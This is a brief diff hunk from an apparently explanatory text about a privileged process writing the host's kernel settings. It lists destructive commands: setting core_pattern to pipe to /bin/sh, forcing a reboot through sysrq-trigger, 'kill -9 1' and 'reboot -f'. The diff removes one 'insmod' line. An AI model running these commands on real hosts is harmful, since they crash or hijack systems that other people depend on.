@@ -39,7 +39,6 @@ on it, write a setting of its kernel. Process 1 is the host's. To begin with:
   echo '|/bin/sh' > /proc/sys/kernel/core_pattern
   echo b > /proc/sysrq-trigger
   echo never > /sys/kernel/mm/transparent_hugepage/enabled
-  insmod /dev/null
   kill -9 1
   reboot -f
 
